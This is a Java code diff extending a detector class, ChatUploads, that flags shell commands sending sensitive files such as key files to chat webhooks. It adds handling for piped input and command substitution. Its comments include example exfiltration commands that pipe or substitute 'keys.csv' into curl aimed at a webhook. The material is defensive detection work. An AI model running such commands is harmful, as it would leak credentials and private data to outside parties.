@@ -149,10 +149,21 @@ final class ChatUploads {
             && !source.contains("open(")
             && !source.contains("file")
             && !source.contains("attach")
+            && !source.contains("$(")
+            && !source.contains("`")
             && !source.contains("ReadStream")) {
       return null; // most commands: a search or two
     }
+    String piped = null; // a file of keys or data a reader of the command hands on (cat keys.csv |)
     for (Step step : scan.steps()) {
+      if (READERS.contains(step.program())) {
+        for (Word word : step.args()) {
+          if (!word.text().startsWith("-") && sensitive(word.text())) {
+            piped = word.text();
+          }
+        }
+        continue;
+      }
       if (step.interpreter()) {
         String code = InterpreterCode.of(step);
         String found = code == null ? null : codeUpload(code);
@@ -174,10 +185,44 @@ final class ChatUploads {
         if (one != null && sensitive(one)) {
           file = one;
         }
+        if (one != null && one.equals("-") && piped != null) {
+          file = piped; // cat keys.csv | curl -F file=@- "$WEBHOOK"
+        }
+        String substituted = substitutedFile(word.written() == null ? word.text() : word.written());
+        if (substituted != null) {
+          file = substituted; // -d "{\"text\":\"$(cat keys.csv)\"}"
+        }
         chat |= chat(word.text(), word.written());
       }
       if (file != null && chat) {
         return file + " to a chat";
+      }
+    }
+    return null;
+  }
+
+  /** Programs that print a file for the next to send. */
+  private static final Set<String> READERS = Set.of("cat", "jq", "head", "tail", "base64", "gzip");
+
+  /**
+   * A file a word's command substitution prints: {@code $(cat keys.csv)}, {@code $(< keys.csv)}.
+   */
+  private static String substitutedFile(String written) {
+    for (String opener : new String[] {"$(cat ", "$(<", "`cat "}) {
+      int at = written.indexOf(opener);
+      if (at < 0) {
+        continue;
+      }
+      int from = at + opener.length();
+      int end = from;
+      while (end < written.length()
+          && end < from + 400
+          && " )`\"'|;".indexOf(written.charAt(end)) < 0) {
+        end++;
+      }
+      String file = written.substring(from, end).strip();
+      if (!file.isEmpty() && sensitive(file)) {
+        return file;
       }
     }
     return null;
